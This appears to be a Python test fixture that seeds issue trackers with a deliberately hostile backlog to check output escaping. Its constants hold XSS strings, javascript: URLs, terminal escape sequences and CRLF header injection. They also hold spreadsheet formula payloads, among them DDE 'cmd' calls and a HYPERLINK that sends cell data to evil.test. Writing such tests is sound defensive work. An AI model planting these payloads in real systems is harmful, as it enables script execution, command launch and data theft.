"""One hostile backlog: what anyone who can edit an issue could put in its title, URL, assignee, labels, inputs
and key. The same records seed the local tracker, the Jira sandbox and the Linear sandbox."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

ESC, BEL = "\x1b", "\x07"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(2)>"
MD_JS_LINK = "[click](javascript:alert(3))"
MD_IMAGE = "![](http://evil.test/p.png)"
JS_URL = "javascript:alert(document.domain)"
MENTIONS = "<!channel> @here"
TERMINAL = f"{ESC}]0;pwned{BEL}{ESC}[2K{ESC}[31mOK{ESC}[0m"
RICH_MARKUP = "[red]marked[/red] [link=javascript:alert(4)]rich[/link]"
NUL, RLO = "\x00", "\u202e"
HUGE = "H" * 100_000
FORMULAS = (
    '=HYPERLINK("http://evil.test?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)
FORMULA_KEY = "=1+1"
HEADER_KEY = "T-9\r\nBcc: victim@evil.test"
MARKUP_KEY = "[bold red]T-1[/bold red]"
JIRA_WIKI = "[~admin] {html}<b>x</b>{html}"

EVERY_PAYLOAD = (SCRIPT, IMG, MD_JS_LINK, MD_IMAGE, MENTIONS, TERMINAL, RICH_MARKUP, NUL, RLO)


def _record(n: int, key: str, title: str, *, now: datetime, **extra: Any) -> dict[str, Any]:
    when = (now - timedelta(days=40 - n)).isoformat(timespec="seconds")
    fields = {"Reach": 100 * n, "Impact": "High", "Confidence": "80%", "Effort": 2}
    fields.update(extra.pop("fields", {}))
    return {
        "key": key,
        "id": str(n),
        "title": title,
        "status": "Backlog",
        "status_category": "todo",
        "assignee": None,
        "team": "ENG",
        "labels": [MD_IMAGE, f"{SCRIPT}{RLO}"],
        "created": when,
        "updated": when,
        "status_entered": when,
        "fields": fields,
        "comments": [],
        **extra,
    }


def hostile_backlog(now: datetime | None = None) -> dict[str, Any]:
    """Three in-progress items over a limit of 1 (all assigned to a person named "<!channel> @here", so over the
    per-assignee limit too, and all aging), issues whose titles are spreadsheet formulas, and inputs that are
    Markdown images, HTML and wiki markup (so those issues need input and their comments quote them)."""
    now = now or datetime.now(UTC)
    doing = {"status": "In Progress", "status_category": "in_progress", "assignee": MENTIONS}
    records = [
        _record(1, MARKUP_KEY, f"{HUGE} oldest", now=now, url="https://tracker.example.com/browse/T-1", **doing),
        _record(2, FORMULA_KEY, f"{SCRIPT}{IMG} {MD_JS_LINK} {MD_IMAGE}", now=now, url=JS_URL, **doing),
        _record(3, HEADER_KEY, f"{TERMINAL} {RICH_MARKUP} a{NUL}b {RLO}gnp.exe", now=now, url=f" {JS_URL}", **doing),
        _record(4, "T-4", "Needs input | with a pipe", now=now, fields={"Impact": MD_IMAGE}),
        _record(5, f"T-5{RLO}{NUL}", "HTML input", now=now, fields={"Impact": f"{SCRIPT}{IMG}"}),
        _record(6, "T-6", "Wiki input", now=now, fields={"Impact": JIRA_WIKI}),
    ]
    records += [_record(10 + i, f"T-{10 + i}", formula, now=now) for i, formula in enumerate(FORMULAS)]
    return {"version": 1, "issues": records}
